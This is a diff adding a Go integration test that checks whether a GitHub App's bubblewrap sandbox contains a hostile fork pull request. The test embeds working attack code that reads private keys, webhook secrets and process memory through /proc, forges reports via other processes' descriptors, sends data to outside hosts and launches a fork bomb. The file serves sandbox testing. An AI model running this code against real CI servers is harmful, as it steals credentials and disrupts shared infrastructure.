@@ -1,0 +1,459 @@
+package app
+
+import (
+	"bufio"
+	"bytes"
+	"crypto/rand"
+	"encoding/hex"
+	"encoding/json"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"runtime"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	gh "github.com/google/go-github/v60/github"
+
+	"github.com/interleave-dev/interleave/report/github/ghtest"
+)
+
+// attackTest is the fork's test file: when its test binary first starts,
+// it tries every attack of issue 25 and keeps what it got, which the
+// changed test then puts into its failure message (and so into the
+// finding the App posts) and into files.
+const attackTest = `package racy
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"time"
+)
+
+var loot string
+
+func init() {
+	if _, err := os.Stat("/tmp/attacked"); err == nil {
+		b, _ := os.ReadFile("/tmp/loot")
+		loot = string(b)
+		return
+	}
+	os.WriteFile("/tmp/attacked", nil, 0o644)
+	var b strings.Builder
+	say := func(what string, got string, err error) {
+		if len(got) > 600 {
+			got = got[:600]
+		}
+		fmt.Fprintf(&b, "LOOT %s: ok=%v err=%v got=%q\n", what, err == nil, err, got)
+	}
+	read := func(what, path string) {
+		data, err := os.ReadFile(path)
+		say(what, string(data), err)
+	}
+	read("key", {{KEY}})
+	read("secret", {{SECRET}})
+	read("database", {{DB}})
+	read("other clone", {{CLONE}})
+	read("server environ", "/proc/{{PID}}/environ")
+	read("server cmdline", "/proc/{{PID}}/cmdline")
+	mem := func(what, pid string) {
+		maps, err := os.ReadFile("/proc/" + pid + "/maps")
+		if err != nil {
+			say(what, "", err)
+			return
+		}
+		f, err := os.Open("/proc/" + pid + "/mem")
+		if err != nil {
+			say(what, "", err)
+			return
+		}
+		defer f.Close()
+		var got []byte
+		for _, line := range strings.Split(string(maps), "\n") {
+			var lo, hi uint64
+			var perm string
+			if n, _ := fmt.Sscanf(line, "%x-%x %s", &lo, &hi, &perm); n == 3 && strings.HasPrefix(perm, "rw") {
+				buf := make([]byte, min(hi-lo, 1<<20))
+				n, _ := f.ReadAt(buf, int64(lo))
+				got = append(got, buf[:n]...)
+			}
+		}
+		say(what, string(got), nil)
+	}
+	mem("server memory", "{{PID}}")
+	// Every process the job can see: its environment, memory and open
+	// files; a writable descriptor gets a forged result.
+	forged := ` + "`" + `{"exit":0,"report":{"version":1,"tool":{"name":"interleave"},"findings":[{"rule":"IL0000","message":"FORGED-REPORT via a descriptor"}]}}` + "`" + `
+	procs, _ := os.ReadDir("/proc")
+	for _, p := range procs {
+		if p.Name()[0] < '0' || p.Name()[0] > '9' || p.Name() == fmt.Sprint(os.Getpid()) {
+			continue
+		}
+		cmd, _ := os.ReadFile("/proc/" + p.Name() + "/cmdline")
+		what := "process " + p.Name() + " " + strings.ReplaceAll(string(cmd), "\x00", " ")
+		data, err := os.ReadFile("/proc/" + p.Name() + "/environ")
+		say(what+" environ", string(data), err)
+		fds, err := os.ReadDir("/proc/" + p.Name() + "/fd")
+		if err != nil {
+			say(what+" fds", "", err)
+			continue
+		}
+		var failed []string
+		for _, fd := range fds {
+			f, err := os.OpenFile("/proc/"+p.Name()+"/fd/"+fd.Name(), os.O_WRONLY|os.O_APPEND, 0)
+			if err == nil {
+				_, err = f.WriteString(forged)
+				f.Close()
+			}
+			target, _ := os.Readlink("/proc/" + p.Name() + "/fd/" + fd.Name())
+			if err == nil {
+				say(what+" fd "+fd.Name()+" ("+target+") written", "", err)
+			} else {
+				failed = append(failed, fd.Name())
+			}
+		}
+		if len(failed) > 0 {
+			say(what+" fds "+strings.Join(failed, ",")+" written", "", fmt.Errorf("not writable"))
+		}
+	}
+	// The server's files of this job and of others.
+	for _, pattern := range []string{"report.json", "summary.md", "report.sarif", "../out/*", {{OUTS}}} {
+		matches, _ := filepath.Glob(pattern)
+		if len(matches) == 0 {
+			matches = []string{pattern}
+		}
+		for _, m := range matches {
+			err := os.WriteFile(m, []byte("FORGED-REPORT in a file"), 0o644)
+			say("rewrite "+m, "", err)
+		}
+	}
+	filepath.Walk({{WORK}}, func(path string, info os.FileInfo, err error) error {
+		say("walk "+path, "", err)
+		return nil
+	})
+	for _, addr := range []string{{{GITHUB}}, {{CANARYHOST}}, "140.82.112.3:443", "proxy.golang.org:443"} {
+		c, err := net.DialTimeout("tcp", addr, 300*time.Millisecond)
+		if err == nil {
+			c.Write([]byte("LEAK"))
+			c.Close()
+		}
+		say("connect "+addr, "", err)
+	}
+	var cmds []*exec.Cmd
+	var err error
+	for i := 0; i < 10000; i++ {
+		c := exec.Command("sleep", "600")
+		if err = c.Start(); err != nil {
+			break
+		}
+		cmds = append(cmds, c)
+	}
+	fmt.Fprintf(&b, "LOOT forked %d of 10000: %v\n", len(cmds), err)
+	for _, c := range cmds {
+		c.Process.Kill()
+		c.Wait()
+	}
+	loot = b.String()
+	os.WriteFile("/tmp/loot", []byte(loot), 0o644)
+	os.WriteFile("loot.txt", []byte(loot), 0o644)
+	fmt.Fprint(os.Stderr, loot)
+}
+`
+
+// TestAppUntrustedPullRequest runs interleave serve, as an operator would,
+// against the fake GitHub. A fork's pull request waits for a maintainer's
+// /retest-concurrency, then its test tries to steal the key, the secret,
+// the database, another job's clone, the server's environment and memory,
+// to forge its report, to reach the network and to fork 10,000 processes.
+// Nothing secret may reach GitHub, what is posted is what the server
+// built, and the server then runs another pull request's job.
+func TestAppUntrustedPullRequest(t *testing.T) {
+	needBinary(t)
+	if runtime.GOOS != "linux" {
+		t.Skip("the job sandbox (bubblewrap) exists only on Linux")
+	}
+	if _, err := exec.LookPath("bwrap"); err != nil {
+		t.Skip("bubblewrap (bwrap) is not installed, so the job sandbox does not exist here; Debian: apt-get install bubblewrap")
+	}
+	canary := func(what string) string {
+		b := make([]byte, 8)
+		rand.Read(b)
+		return what + "-canary-" + hex.EncodeToString(b)
+	}
+	envCanary, dbCanary, cloneCanary := canary("environ"), canary("database"), canary("clone")
+	webhookSecret := canary("webhook-secret")
+
+	key, pub := appKey(t)
+	github := ghtest.New(t)
+	github.AddApp(testAppID, pub, testInstID)
+	github.SetPermission(owner, repoName, "maint", "write")
+	github.SetPermission(owner, "benign", "maint", "write")
+
+	// The operator's files, readable only by the server.
+	root := t.TempDir()
+	secrets := filepath.Join(root, "secrets")
+	os.Mkdir(secrets, 0o700)
+	keyFile, secretFile := filepath.Join(secrets, "app.pem"), filepath.Join(secrets, "webhook-secret")
+	os.WriteFile(keyFile, key, 0o600)
+	os.WriteFile(secretFile, []byte(webhookSecret+"\n"), 0o600)
+	state := filepath.Join(root, "state")
+	// The job's uid only traverses these, as for /var/lib.
+	for _, d := range []string{filepath.Dir(root), root, state} {
+		os.MkdirAll(d, 0o711)
+		os.Chmod(d, 0o711)
+	}
+	dbPath, workDir := filepath.Join(state, "queue.db"), filepath.Join(state, "work")
+	// Another job's clone, as a worker of the same server would leave it.
+	otherClone := filepath.Join(workDir, "jobs", "j09999999", "src", "secret.go")
+	os.MkdirAll(filepath.Dir(otherClone), 0o700)
+	os.WriteFile(otherClone, []byte("package other // "+cloneCanary+"\n"), 0o600)
+
+	// A host the job must not reach.
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	dialed := make(chan string, 10)
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			b, _ := io.ReadAll(io.LimitReader(c, 100))
+			dialed <- string(b)
+			c.Close()
+		}
+	}()
+
+	gocache, _ := exec.Command("go", "env", "GOCACHE").Output()
+	cmd := exec.Command(interleaveBin, "serve", "-app-id", strconv.Itoa(testAppID), "-private-key", keyFile,
+		"-webhook-secret-file", secretFile, "-db", dbPath, "-workdir", workDir, "-addr", "127.0.0.1:0",
+		"-api-url", github.URL(), "-git-url", filepath.Join(root, "git"), "-budget", "2s", "-job-timeout", "4m",
+		"-gocache-seed", strings.TrimSpace(string(gocache)), "-sandbox-nproc", "512", "-grace", "0s", "-keep-job-dirs")
+	cmd.Env = append(os.Environ(), "INTERLEAVE_TEST_CANARY="+envCanary)
+	logs := &syncBuffer{}
+	stderr, _ := cmd.StderrPipe()
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	addr := make(chan string, 1)
+	go func() {
+		sc := bufio.NewScanner(stderr)
+		sc.Buffer(nil, 1<<20)
+		for sc.Scan() {
+			logs.Write(append(sc.Bytes(), '\n'))
+			var l struct{ Msg, Addr string }
+			if json.Unmarshal(sc.Bytes(), &l) == nil && l.Msg == "serving" {
+				addr <- l.Addr
+			}
+		}
+		close(addr)
+	}()
+	defer func() {
+		cmd.Process.Signal(os.Interrupt)
+		cmd.Wait()
+		if t.Failed() {
+			t.Logf("server log:\n%s", logs.String())
+		}
+	}()
+	a, ok := <-addr
+	if !ok {
+		cmd.Wait()
+		t.Fatalf("interleave serve did not start:\n%s", logs.String())
+	}
+	server := "http://" + a
+
+	// The fork's pull request, which knows where everything lives.
+	evil := filepath.Join(root, "git", owner, repoName)
+	q := strconv.Quote
+	attack := strings.NewReplacer("{{KEY}}", q(keyFile), "{{SECRET}}", q(secretFile), "{{DB}}", q(dbPath), "{{CLONE}}", q(otherClone),
+		"{{PID}}", strconv.Itoa(cmd.Process.Pid), "{{OUTS}}", q(filepath.Join(workDir, "jobs", "*", "out", "*")), "{{WORK}}", q(workDir),
+		"{{GITHUB}}", q(strings.TrimPrefix(strings.TrimSuffix(github.URL(), "/"), "http://")), "{{CANARYHOST}}", q(ln.Addr().String())).Replace(attackTest)
+	base, head := makeRepoWith(t, evil, map[string]string{
+		"attack_test.go":  attack,
+		"counter_test.go": strings.Replace(counterTest, `t.Fatalf("N = %d, want 2", c.N())`, `t.Fatalf("N = %d, want 2; what the pull request got:\n%s", c.N(), loot)`, 1),
+	})
+	github.AddPull(ghtest.Pull{Owner: owner, Repo: repoName, Number: prNumber, HeadSHA: head, BaseSHA: base, Fork: true, Files: repoFiles})
+	deliver := func(event, delivery string, body []byte) {
+		t.Helper()
+		req, _ := http.NewRequest(http.MethodPost, server+"/webhook", bytes.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("X-GitHub-Event", event)
+		req.Header.Set("X-GitHub-Delivery", delivery)
+		req.Header.Set("X-Hub-Signature-256", ghtest.Sign([]byte(webhookSecret), body))
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != http.StatusAccepted {
+			t.Fatalf("delivery %s: status %d", delivery, resp.StatusCode)
+		}
+	}
+	waitFor := func(what string, cond func() bool) {
+		t.Helper()
+		deadline := time.Now().Add(8 * time.Minute)
+		for !cond() {
+			if time.Now().After(deadline) {
+				t.Fatalf("timed out waiting for %s", what)
+			}
+			if cmd.ProcessState != nil {
+				t.Fatalf("the server exited while waiting for %s", what)
+			}
+			if strings.Contains(logs.String(), `"msg":"job failed"`) && !strings.Contains(logs.String(), `"msg":"failure posted"`) {
+				t.Fatalf("a job failed without posting while waiting for %s", what)
+			}
+			time.Sleep(50 * time.Millisecond)
+		}
+	}
+	completed := func(repo, sha string) *gh.CheckRun {
+		for _, r := range github.CheckRuns(owner, repo) {
+			if r.GetHeadSHA() == sha && r.GetStatus() == "completed" {
+				return r
+			}
+		}
+		return nil
+	}
+
+	// 1. The fork's push waits: a queued check run says for what.
+	deliver("pull_request", dbCanary+"-1", payload(t, "pull_request", "opened", map[string]any{
+		"number": prNumber, "pull_request.number": prNumber, "pull_request.head.sha": head, "pull_request.base.sha": base,
+		"pull_request.head.repo.full_name": "outsider/" + repoName, "pull_request.user.login": "outsider", "sender.login": "outsider",
+	}))
+	waitFor("the waiting check run", func() bool { return len(github.CheckRuns(owner, repoName)) == 1 })
+	if r := github.CheckRuns(owner, repoName)[0]; r.GetStatus() != "queued" || !strings.Contains(r.GetOutput().GetSummary(), "comes from a fork") ||
+		!strings.Contains(r.GetOutput().GetSummary(), "/retest-concurrency") {
+		t.Fatalf("check run %s %q: %q, want queued, saying it waits for /retest-concurrency on a fork", r.GetStatus(), r.GetOutput().GetTitle(), r.GetOutput().GetSummary())
+	}
+
+	// 2. A maintainer's go-ahead runs it, in the sandbox.
+	body := "/retest-concurrency budget=30s"
+	id := github.SeedIssueComment(owner, repoName, prNumber, gh.IssueComment{Body: gh.String(body), User: &gh.User{Login: gh.String("maint"), Type: gh.String("User")}})
+	deliver("issue_comment", dbCanary+"-2", payload(t, "issue_comment", "created", map[string]any{
+		"issue.number": prNumber, "issue.state": "open",
+		"issue.pull_request": map[string]any{"url": "https://api.github.com/repos/" + owner + "/" + repoName + "/pulls/7"},
+		"comment.id":         id, "comment.body": body, "comment.user.login": "maint", "comment.user.type": "User",
+		"sender.login": "maint", "sender.type": "User",
+	}))
+	waitFor("the fork's results", func() bool { return completed(repoName, head) != nil })
+
+	// 3. The server still serves: another repository's pull request runs.
+	okBase, okHead := makeRepo(t, filepath.Join(root, "git", owner, "benign"))
+	github.AddPull(ghtest.Pull{Owner: owner, Repo: "benign", Number: 1, HeadSHA: okHead, BaseSHA: okBase, Files: repoFiles})
+	deliver("pull_request", "benign-1", payload(t, "pull_request", "synchronize", map[string]any{
+		"repository.name": "benign", "repository.full_name": owner + "/benign",
+		"number": 1, "pull_request.number": 1, "pull_request.head.sha": okHead, "pull_request.base.sha": okBase,
+		"pull_request.head.repo.full_name": owner + "/benign", "pull_request.user.login": "maint", "sender.login": "maint",
+	}))
+	waitFor("the other pull request's results", func() bool { return completed("benign", okHead) != nil })
+	if r := completed("benign", okHead); r.GetConclusion() != "failure" || !strings.Contains(r.GetOutput().GetSummary(), "counter.go") {
+		t.Errorf("the other pull request's check run: %s %q, want a failure naming counter.go", r.GetConclusion(), r.GetOutput().GetSummary())
+	}
+	if resp, err := http.Get(server + "/healthz"); err != nil || resp.StatusCode != http.StatusOK {
+		t.Errorf("healthz: %v %v", resp, err)
+	}
+
+	// Nothing secret reached GitHub, and nothing the job forged.
+	keyLines := strings.Split(strings.TrimSpace(string(key)), "\n")
+	secretsOf := map[string]string{
+		"the App's private key": keyLines[len(keyLines)/2], "the webhook secret": webhookSecret,
+		"the server's environment": envCanary, "the database": dbCanary, "another job's clone": cloneCanary,
+		"a forged report": "FORGED-REPORT",
+	}
+	var posted strings.Builder
+	for _, r := range github.Requests() {
+		text := r.Method + " " + r.Path + "?" + r.RawQuery + "\n" + string(r.Body)
+		posted.WriteString(text + "\n")
+		for what, s := range secretsOf {
+			if strings.Contains(text, s) || strings.Contains(text, strings.ReplaceAll(s, "+", `\u002b`)) {
+				t.Errorf("%s reached GitHub in %s %s:\n%.2000s", what, r.Method, r.Path, r.Body)
+			}
+		}
+	}
+	select {
+	case got := <-dialed:
+		t.Errorf("the job connected to a host it may not reach and sent %q", got)
+	default:
+	}
+
+	// What the test got, as it posted it through its failure message: no
+	// attack succeeded.
+	run := completed(repoName, head)
+	lootRE := regexp.MustCompile(`LOOT ([^\n]*?): ok=(true|false)`)
+	// pr posts a test's failure message only with some findings (not
+	// with the data race found here); the test also wrote it into its
+	// clone, kept by -keep-job-dirs.
+	all := posted.String()
+	files, _ := filepath.Glob(filepath.Join(workDir, "jobs", "j0000000[12]", "src", "loot.txt"))
+	for _, f := range files {
+		b, _ := os.ReadFile(f)
+		all += "\n" + string(b)
+	}
+	attempts := lootRE.FindAllStringSubmatch(all, -1)
+	if len(attempts) == 0 {
+		t.Fatalf("no record of the attacks, posted or in the clone")
+	}
+	t.Logf("what the pull request's test got:\n%s", strings.Join(regexp.MustCompile(`(?m)^LOOT .*$`).FindAllString(all, -1), "\n"))
+	trusted := regexp.MustCompile(`^process \d+ /job/bin/interleave serve-job`)
+	for _, m := range attempts {
+		what, ok := m[1], m[2] == "true"
+		switch {
+		case trusted.MatchString(what) && ok:
+			t.Errorf("the job could use the trusted serve-job process: %s", what)
+		case strings.HasPrefix(what, "process "), strings.HasPrefix(what, "walk "):
+			// Its own processes (their environment is the job's, their
+			// descriptors its log and its pipes), and walking what it
+			// can see, are allowed.
+		case strings.HasPrefix(what, "rewrite ") && ok:
+			// Files in its own clone; the server never reads them.
+			if !strings.HasPrefix(what, "rewrite report.json") && !strings.HasPrefix(what, "rewrite summary.md") && !strings.HasPrefix(what, "rewrite report.sarif") {
+				t.Errorf("the job rewrote a file outside its clone: %s", what)
+			}
+		case ok && !strings.HasPrefix(what, "process ") && !strings.HasPrefix(what, "rewrite "):
+			t.Errorf("attack %q succeeded", what)
+		}
+	}
+	if m := regexp.MustCompile(`LOOT forked (\d+) of 10000`).FindStringSubmatch(all); m == nil {
+		t.Errorf("the fork bomb's count was not posted")
+	} else if n, _ := strconv.Atoi(m[1]); n >= 512 {
+		t.Errorf("the job started %d processes, more than its limit of 512", n)
+	}
+	// The posted text is the server's: post's own rendering of the
+	// findings, the lost update on counter.go.
+	if !strings.Contains(run.GetOutput().GetSummary(), "counter.go") {
+		t.Errorf("check run summary %.2000q does not name counter.go", run.GetOutput().GetSummary())
+	}
+}
+
+// makeRepoWith is makeRepo whose head commit also writes files.
+func makeRepoWith(t *testing.T, dir string, files map[string]string) (base, head string) {
+	t.Helper()
+	base, _ = makeRepo(t, dir)
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	git := exec.Command("git", "-C", dir, "-c", "user.name=t", "-c", "user.email=t@example.com", "add", ".")
+	if out, err := git.CombinedOutput(); err != nil {
+		t.Fatalf("git add: %v\n%s", err, out)
+	}
+	git = exec.Command("git", "-C", dir, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "attack")
+	if out, err := git.CombinedOutput(); err != nil {
+		t.Fatalf("git commit: %v\n%s", err, out)
+	}
+	out, _ := exec.Command("git", "-C", dir, "rev-parse", "HEAD").Output()
+	return base, strings.TrimSpace(string(out))
+}
